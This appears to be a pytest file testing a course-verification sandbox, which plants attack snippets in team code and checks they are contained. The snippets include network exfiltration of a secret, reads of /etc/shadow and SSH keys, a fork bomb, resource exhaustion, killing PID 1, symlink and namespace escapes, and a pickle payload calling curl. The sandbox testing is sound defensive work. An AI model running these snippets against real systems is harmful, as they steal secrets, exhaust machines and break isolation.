"""Nothing leaves the box: code that tries hard ends as one line of the report.

Where this machine cannot make namespaces these tests fail: they must not pass unseen. Where it
lacks the program they are skipped, but never in CI.
"""

from __future__ import annotations

import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
from raw_server import RawServer
from verified_course import (
    by_team,
    changed,
    closed_box,
    commit_as_the_runs,
    make_course,
    only_run,
    verify,
)

from coursekit.verify import box
from coursekit.verify.box import Box, find_box
from coursekit.verify.packs import Store
from coursekit.verify.units import Unit, run_unit
from coursekit.verify.watch import Limits, usage
from litreview.errors import UserError

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="bubblewrap needs Linux")

SMALL = Limits(
    cpu_seconds=8,
    seconds=150,
    memory_bytes=700_000_000,
    disk_bytes=30_000_000,
    processes=24,
    output_bytes=2_000_000,
)
# Each is put at the top of a team's baseline/cli.py. Whatever gets out says ESCAPED.
ATTACKS = {
    "network": """
import socket
for host in ("127.0.0.1", "10.0.0.1", "1.1.1.1", "::1"):
    try:
        socket.create_connection((host, {port}), 2).sendall(b"secret")
        raise SystemExit("ESCAPED")
    except OSError:
        pass
""",
    "home": """
import os, sys
for path in ("{canary}", "/etc/passwd", "/etc/shadow", os.path.expanduser("~/.ssh"),
             "/proc/1/root{canary}", "/proc/self/root{canary}", "/tmp/../{canary}"):
    if os.path.exists(path) and path != os.path.expanduser("~"):
        raise SystemExit("ESCAPED " + path)
for folder in ("{canary_folder}", "/var", "/srv", "/run", "/sys"):
    if os.path.exists(folder) and not sys.prefix.startswith(folder + "/"):
        raise SystemExit("ESCAPED " + folder)
""",
    "write": """
import os, sys
for path in ("{canary}", "/usr/lib/evil.py", sys.prefix + "/evil", os.__file__, "/box/job.json",
             "/box/inside.py", "/evil"):
    try:
        open(path, "a").write("x")
        raise SystemExit("ESCAPED " + path)
    except OSError:
        pass
""",
    "environment": """
import os
text = repr(dict(os.environ))
for folder in os.listdir("/proc"):
    for name in ("environ", "cmdline", "cwd"):
        try:
            text += open(f"/proc/{{folder}}/{{name}}").read()
        except OSError:
            pass
if "{secret}" in text or len([f for f in os.listdir("/proc") if f.isdigit()]) > 4:
    raise SystemExit("ESCAPED " + text[:300])
""",
    "parent": """
import os, signal
for target in (1, os.getppid(), -1, {parent}):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
""",
    "forks": """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
    "output": """
import os
while True:
    for number in range(3, 20):
        try:
            os.write(number, b"x" * 65536)
        except OSError:
            pass
    os.write(1, b"y" * 65536)
""",
    "disk": """
import os
number = 0
while True:
    number += 1
    with open(f"/tmp/{{number}}", "wb") as file:
        while True:
            file.write(b"x" * 10_000_000)
""",
    "memory": """
import mmap, os
held = []
if "children" in "{secret}":
    pass
try:
    held.append(bytearray(10_000_000_000))
except MemoryError:
    pass
for _ in range(12):
    if os.fork() == 0:
        part = bytearray(300_000_000)
        for place in range(0, len(part), 4096):
            part[place] = 1
        import time
        time.sleep(30)
        raise SystemExit(0)
import time
time.sleep(30)
""",
    "cpu": """
import os
for _ in range(3):
    os.fork()
while True:
    pass
""",
    "links": """
import os
os.makedirs("/tmp/links", exist_ok=True)
for target in ("{canary}", "/etc/shadow", "/proc/1/environ", "/proc/1/root"):
    name = f"/tmp/links/{{abs(hash(target))}}"
    os.symlink(target, name)
    try:
        if os.path.isdir(name):
            os.listdir(name + "/root")
        data = open(name).read() if not os.path.isdir(name) else ""
        if "canary" in data or "{secret}" in data or "root:" in data:
            raise SystemExit("ESCAPED " + target)
    except OSError:
        pass
""",
    "pickle": """
import os, pickle
class Evil:
    def __reduce__(self):
        return os.system, ("echo pwned >> {canary}; curl -s http://127.0.0.1:{port}/",)
pickle.loads(pickle.dumps(Evil()))
""",
    "namespaces": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for flag in (0x00020000, 0x40000000, 0x20000000):
    libc.unshare(flag)
if libc.mount(b"none", b"/usr", b"tmpfs", 0, None) == 0 or libc.ptrace(16, 1, 0, 0) == 0:
    raise SystemExit("ESCAPED")
try:
    os.setuid(0)
    if os.getuid() == 0 and os.path.exists("{canary}"):
        raise SystemExit("ESCAPED")
except OSError:
    pass
""",
}  # fmt: skip
# What the report says of those that use too much.
STOPPED = {
    "forks": ("processes", "CPU-seconds", "took longer"),
    "output": ("printed more than 2 MB",),
    "disk": ("No space left", "File too large", "ended with code"),
    "memory": ("needed more than 0.7 GB of memory",),
    "cpu": ("used more than 8 CPU-seconds",),
}


@pytest.fixture(scope="module")
def attacked(honest, tmp_path_factory):
    """A course of which every team but one attacks; it is verified once, with small limits."""
    closed_box()
    folder = tmp_path_factory.mktemp("attacks")
    canary = folder / "staff" / "canary"
    canary.parent.mkdir()
    canary.write_text("canary", encoding="utf-8")
    listener = RawServer()
    secret = "a-token-of-the-staff"
    teams = {}
    for name, code in ATTACKS.items():
        text = code.format(
            canary=canary, canary_folder=canary.parent, port=listener.port, secret=secret,
            parent=os.getpid(),
        )  # fmt: skip

        def attack(team: Path, text: str = text) -> None:
            path = team / "baseline" / "cli.py"
            honest_code = path.read_text(encoding="utf-8")
            start = "from __future__ import annotations\n"
            assert start in honest_code
            path.write_text(honest_code.replace(start, start + text, 1), encoding="utf-8")
            commit_as_the_runs(team)

        teams[name] = changed(honest, folder / name, attack)
    teams["bystander"] = honest
    course = make_course(folder / "course", teams)
    os.environ["STAFF_TOKEN"] = secret
    try:
        report = verify(course, limits=SMALL, new_seeds=0)
    finally:
        del os.environ["STAFF_TOKEN"]
        listener.socket.close()
    return by_team(report), canary, listener


@pytest.mark.slow
@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_ends_as_one_line_of_the_report(attacked, name):
    lines, _, _ = attacked
    line = lines[name]
    assert line.code == "team"
    assert "ESCAPED" not in line.reason
    if name in STOPPED:
        assert line.state == "measured"
        assert any(words in line.reason for words in STOPPED[name]), line.reason
    elif name == "parent":
        assert line.state in ("measured", "reproduced")
    else:
        # It reached nothing, went on with its work, and that is what was asked for.
        assert (line.state, line.reason) == (
            "reproduced",
            "with the test answers hidden from the team's code",
        )


@pytest.mark.slow
def test_others_are_verified_all_the_same(attacked):
    lines, _, _ = attacked
    assert (lines["bystander"].state, lines["bystander"].code) == ("reproduced", "course")
    assert len(lines) == len(ATTACKS) + 1


@pytest.mark.slow
def test_nothing_was_read_written_or_reached(attacked):
    _, canary, listener = attacked
    assert canary.read_text(encoding="utf-8") == "canary"
    assert listener.reached == 0


@pytest.mark.slow
def test_nothing_is_left_running(attacked):
    def boxed() -> list[str]:
        found = []
        for path in Path("/proc").glob("[0-9]*/cmdline"):
            try:
                words = path.read_bytes().decode("utf-8", "replace")
            except OSError:
                continue
            if "/box/inside.py" in words:
                found.append(words)
        return found

    end = time.monotonic() + 10
    while boxed() and time.monotonic() < end:
        time.sleep(0.1)
    assert boxed() == []


def test_what_lies_beside_the_courses_code_is_not_run(honest, tmp_path):
    """Modules that would be found first stay where they are: the course's code runs alone."""

    def poison(team: Path) -> None:
        trap = "raise SystemExit('ESCAPED')\n"
        for name in ("sitecustomize.py", "usercustomize.py", "numpy.py", "tomllib.py", "json.py",
                     "baseline/torch.py", "data/sitecustomize.py"):  # fmt: skip
            (team / name).write_text(trap, encoding="utf-8")
        commit_as_the_runs(team)

    course = make_course(tmp_path / "course", {"mice": changed(honest, tmp_path / "mice", poison)})
    (line,) = verify(course, limits=SMALL, new_seeds=0).lines
    assert (line.state, line.code) == ("reproduced", "course")


def test_a_link_in_place_of_data_is_not_followed(honest, tmp_path):
    def link(team: Path) -> None:
        (team / "data" / "mails.csv").unlink()
        (team / "data" / "mails.csv").symlink_to("/etc/passwd")
        commit_as_the_runs(team)

    course = make_course(tmp_path / "course", {"mice": changed(honest, tmp_path / "mice", link)})
    (line,) = verify(course).lines
    assert line.state == "left out"
    assert line.reason == "data/mails.csv: is no ordinary file, and is not followed"


def test_data_outside_of_the_repository_are_not_read(honest, tmp_path):
    def outside(team: Path) -> None:
        path = only_run(team) / "config.toml"
        text = path.read_text(encoding="utf-8")
        path.write_text(text.replace("data/mails.csv", "../../etc/passwd"), encoding="utf-8")

    course = make_course(tmp_path / "course", {"mice": changed(honest, tmp_path / "mice", outside)})
    (line,) = verify(course).lines
    assert (line.state, line.reason) == (
        "left out",
        "data.train is '../../etc/passwd', which is outside of the repository",
    )


def test_a_reason_rewrites_no_terminal(honest, tmp_path):
    def strange(team: Path) -> None:
        path = only_run(team) / "config.toml"
        text = path.read_text(encoding="utf-8")
        path.write_text(text.replace("data/mails.csv", "\\u001b[2J\\u202e\\n gone.csv"), "utf-8")

    course = make_course(tmp_path / "course", {"mice": changed(honest, tmp_path / "mice", strange)})
    (line,) = verify(course).lines
    assert line.state == "left out"
    assert line.reason == "gone.csv is not in the repository, and data.lock names no place"
    assert line.reason.isprintable()


def test_a_teams_own_code_never_runs_without_a_closed_box(tmp_path):
    """Even where the caller is wrong about the box."""
    marker = tmp_path / "marker"
    store = Store(tmp_path / "packs")
    code = store.add({"baseline/cli.py": f"open({str(marker)!r}, 'w')".encode()})
    data = store.add({})
    job = {"code": f"{code}.tar", "packs": [f"{data}.tar"], "steps": [{"config": ""}]}
    with pytest.raises(UserError, match="closed box only"):
        run_unit(Unit(job, SMALL, foreign=True), store.path, Box("none"))
    assert not marker.exists()


def test_an_interpreter_below_the_temporary_folder_is_found(tmp_path):
    """A checkout may lie in /tmp, which is another folder in the box."""
    closed_box()
    python = tmp_path / "a clone" / ".venv" / "bin" / "python"
    command = [sys.executable, "-m", "venv", "--without-pip", str(python.parent.parent)]
    subprocess.run(command, check=True, timeout=60)
    (tmp_path / "job.json").write_text("{}", encoding="utf-8")
    (tmp_path / "beside").write_text("another file of the staff", encoding="utf-8")
    code = f"import os; print(os.listdir({str(tmp_path)!r}), os.listdir('/box'))"
    command = box._bubblewrap(str(python), {"job.json": tmp_path / "job.json"}, SMALL)
    place = command.index(str(python))
    told = subprocess.run(
        [*command[: place + 1], "-c", code], capture_output=True, text=True, check=False, timeout=60
    )
    assert (told.stdout.strip(), told.stderr) == ("['a clone'] ['job.json']", "")


def test_a_box_that_cannot_be_made_is_not_replaced(monkeypatch):
    monkeypatch.setattr(box.shutil, "which", lambda name: None)
    box.why_no_box.cache_clear()
    try:
        assert find_box("auto").kind == "none"
        assert not find_box("auto").closed
        with pytest.raises(UserError, match="apt-get install bubblewrap"):
            find_box("bubblewrap")
        with pytest.raises(UserError, match="podman is not installed"):
            find_box("podman")
    finally:
        box.why_no_box.cache_clear()


def test_podman_is_told_every_limit(tmp_path):
    (tmp_path / "job.json").write_text("{}", encoding="utf-8")
    told = box._podman(
        "course/baselines", {"job.json": tmp_path / "job.json"}, SMALL, "box-1", tmp_path
    )
    assert told[:3] == ["podman", "run", "--rm"]
    for word in ("--network=none", "--read-only", "--cap-drop=all", "--pids-limit=24",
                 "--security-opt=no-new-privileges", "--memory=730000000", "--timeout=150",
                 "--http-proxy=false", "--pull=never", "--name=box-1",
                 f"--pidfile={tmp_path}", "--ulimit=nproc=24:24"):  # fmt: skip
        assert word in told
    assert f"{tmp_path / 'job.json'}:/box/job.json:ro" in told
    assert told[told.index("course/baselines") + 1 :][:4] == [
        "python",
        "-I",
        "-S",
        "/box/inside.py",
    ]


def test_usage_adds_up_what_a_process_started():
    before = usage(os.getpid())
    held = bytearray(b"x" * 50_000_000)
    after = usage(os.getpid())
    assert before.threads >= 1
    assert after.memory_bytes - before.memory_bytes > 40_000_000
    assert after.cpu_seconds >= before.cpu_seconds
    assert len(held) == 50_000_000
